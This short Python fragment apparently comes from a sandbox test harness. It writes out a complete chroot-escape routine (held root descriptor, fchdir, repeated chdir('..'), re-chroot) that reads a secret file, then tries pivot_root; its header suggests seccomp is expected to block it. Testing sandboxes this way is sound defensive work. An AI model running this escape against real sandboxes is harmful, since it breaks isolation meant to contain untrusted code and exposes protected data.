# Leaves its root the old way: another root below, and up from a folder outside of it.
# outside: root
# ends: seccomp
def escape():
    os.mkdir(world["tmp"] + "/cell")
    held = os.open("/", os.O_RDONLY)
    os.chroot(world["tmp"] + "/cell")
    os.fchdir(held)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(world["secret"])
attempt("chroot", lambda: in_child(escape))
if world["jailed"]:
    attempt("pivot_root", lambda: done("pivot_root", b"/", b"/tmp"))
